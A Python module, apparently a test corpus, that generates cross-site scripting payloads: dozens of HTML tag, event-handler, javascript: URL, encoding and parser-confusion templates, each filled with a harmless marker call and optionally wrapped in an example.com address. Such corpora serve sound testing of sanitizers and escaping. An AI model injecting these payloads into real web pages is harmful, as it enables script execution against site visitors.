"""Texts that would run a script in a page that takes them for HTML, for an address or for code."""

import itertools
from urllib.parse import quote

CALLS = ("ran()", "top.ran()", "window['ran']()", "parent.ran?.()", "ran`1`")

MARKUP = (
    "<script>{}</script>",
    "<SCRIPT >{}</SCRIPT >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "</script><script>{}</script>",
    "</title></textarea></style><script>{}</script>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror='{}'>",
    "<img src=x:x onerror\n=\n{}//",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=9>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<math href='javascript:{}'>press</math>",
    "<body onload={}>",
    "<details open ontoggle={}><summary>press</summary></details>",
    "<video src=x onerror={}></video>",
    "<audio><source onerror={}></audio>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<form action='javascript:{}'><button>press</button></form>",
    "<button formaction='javascript:{}'>press</button>",
    "<input autofocus onfocus={}>",
    "<a href='javascript:{}'>press</a>",
    "<a href='java\tscript:{}'>press</a>",
    "<a href=' &#106;avascript:{}'>press</a>",
    "<a href='https://example.com' onclick='{}'>press</a>",
    "<p style='background:url(javascript:{})' onpointerenter='{}'>press</p>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><img src=x onerror={}></template>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "&lt;img src=x onerror={}&gt;",
    "\\u003cimg src=x onerror={}\\u003e",
)
OTHERS = (
    "javascript:{}",
    '" onpointerenter="{}" x="',
    "' onfocus='{}' autofocus x='",
    "{{{{ {} }}}}${{{}}}",
)
PAYLOADS = [text.format(call, call) for text, call in itertools.product(MARKUP + OTHERS, CALLS)]


def as_address(payload):
    """Give an address that carries a payload, or is one."""
    if payload.startswith("javascript:"):
        return payload
    return f"https://example.com/{quote(payload)}"
